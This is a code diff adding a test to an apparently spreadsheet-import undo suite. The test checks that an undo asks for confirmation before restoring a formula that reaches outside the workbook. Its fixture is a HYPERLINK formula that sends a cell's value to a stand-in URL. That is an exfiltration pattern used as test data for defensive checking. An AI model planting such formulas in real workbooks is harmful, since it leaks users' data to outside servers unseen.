@@ -100,6 +100,34 @@ test("more rows, and a column that the table lacks: it grows to both, and back",
   expect(await image()).toEqual(before);
 });
 
+test("another session's undo asks before it writes a replaced row's formula that reaches outside", async () => {
+  const link = '=HYPERLINK("https://example.com/?"&C5,"x")';
+  await run(async (context) => {
+    context.workbook.worksheets.getItem("Sheet1").getRange("E5").formulas = [[link]];
+    await context.sync();
+  });
+  await opened.workbook.settled();
+  const before = await image();
+  await imports.replace(job(fewer));
+  await opened.workbook.settled();
+  const replaced = await image();
+  const others = createWorkbookImports(pace);
+  expect(await others.takeBack("import-1")).toMatchObject({ unconfirmed: [link] });
+  expect(await image()).toEqual(replaced);
+  await others.takeBack("import-1", "as text");
+  await opened.workbook.settled();
+  const shown = (await read("Sheet1", "E5", "values"))[0]?.[0];
+  expect(shown).toBe(link);
+  // Formulas that merely calculate are back.
+  expect((await read("Sheet1", "D4:E6", "formulas")).flat()).toEqual(
+    expect.arrayContaining(["=Rents[@rent]/12", "=15*2"]),
+  );
+  await imports.replace(job(fewer));
+  await createWorkbookImports(pace).takeBack("import-1", [link]);
+  await opened.workbook.settled();
+  expect(before).toBeDefined();
+});
+
 test("numbers that come into a column of texts are numbers there", async () => {
   const before = await image();
   const numbers = [{ ...sheetColumn("id", "number", ["7"]) }];
